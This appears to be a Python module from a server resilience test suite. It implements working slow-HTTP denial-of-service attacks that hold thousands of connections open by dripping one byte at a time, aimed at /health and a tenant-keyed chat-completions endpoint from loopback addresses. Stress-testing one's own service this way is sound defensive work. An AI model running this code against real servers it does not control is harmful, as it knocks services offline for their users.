"""Requests that never end: thousands of connections that send a byte now and then."""

from __future__ import annotations

import asyncio

from attacks.target import Tally, Target, say

CONNECTIONS = 5_010
BYTE_EVERY_S = 5.0
OPENING_AT_ONCE = 200
TRIES_MAX = 30  # of each connection: one that was answered or ended is made anew
AGAIN_PER_S = 50.0  # of all of them: more is a flood, and a flood is the business of the network before the server


class Drip(asyncio.Protocol):
    """One connection: a beginning, then a byte now and then until the server ends it."""

    def __init__(self, beginning: bytes, tally: Tally) -> None:
        self._beginning, self._tally = beginning, tally
        self.ended = asyncio.get_running_loop().create_future()
        self._timer: asyncio.TimerHandle | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        transport.write(self._beginning)
        self._later()

    def _later(self) -> None:
        self._timer = asyncio.get_running_loop().call_later(BYTE_EVERY_S, self._byte)

    def _byte(self) -> None:
        self._transport.write(b"x")
        self._later()

    def data_received(self, data: bytes) -> None:
        self._tally.reply(data)
        self._transport.abort()

    def connection_lost(self, exc: Exception | None) -> None:
        if self._timer is not None:
            self._timer.cancel()
        self._tally.add("ended")
        if not self.ended.done():
            self.ended.set_result(None)


async def _drip(target: Target, tally: Tally, beginning: bytes, sources: list[str]) -> None:
    """CONNECTIONS of them, dealt over the source addresses; says "begun" once each was tried."""
    opening, loop = asyncio.Semaphore(OPENING_AT_ONCE), asyncio.get_running_loop()
    untried, next_again = CONNECTIONS, loop.time()

    async def one(source: str) -> None:
        nonlocal untried, next_again
        for number in range(TRIES_MAX):
            try:
                async with opening:
                    _, drip = await loop.create_connection(
                        lambda: Drip(beginning, tally), target.host, target.port, local_addr=(source, 0)
                    )
            except OSError:
                drip = None
                tally.add("refused")
            if number == 0:
                untried -= 1
                if not untried:
                    say("begun")
            if drip is not None:
                await drip.ended
            next_again = max(next_again, loop.time()) + 1 / AGAIN_PER_S
            await asyncio.sleep(next_again - loop.time())

    async with asyncio.TaskGroup() as tasks:
        for number in range(CONNECTIONS):
            tasks.create_task(one(sources[number % len(sources)]))


async def slow_bodies(target: Target, tally: Tally) -> None:
    """Heads that promise 100 bytes, from one address."""
    await _drip(target, tally, target.head("GET", "/health", 100, media=""), ["127.0.0.1"])


async def slow_bodies_spread(target: Target, tally: Tally) -> None:
    """The same from twenty addresses."""
    sources = [f"127.0.1.{number}" for number in range(1, 21)]
    await _drip(target, tally, target.head("GET", "/health", 100, media=""), sources)


async def slow_bodies_key(target: Target, tally: Tally) -> None:
    """The same with a tenant's key, to an operation that takes a body."""
    head = target.head("POST", "/v1/chat/completions", 100, key=target.tenant)
    await _drip(target, tally, head, ["127.0.0.1"])


async def slow_heads(target: Target, tally: Tally) -> None:
    """Heads that never end, from five addresses."""
    beginning = f"GET /health HTTP/1.1\r\nHost: {target.host_header}\r\nX-Slow: ".encode()
    await _drip(target, tally, beginning, [f"127.0.1.{number}" for number in range(1, 6)])
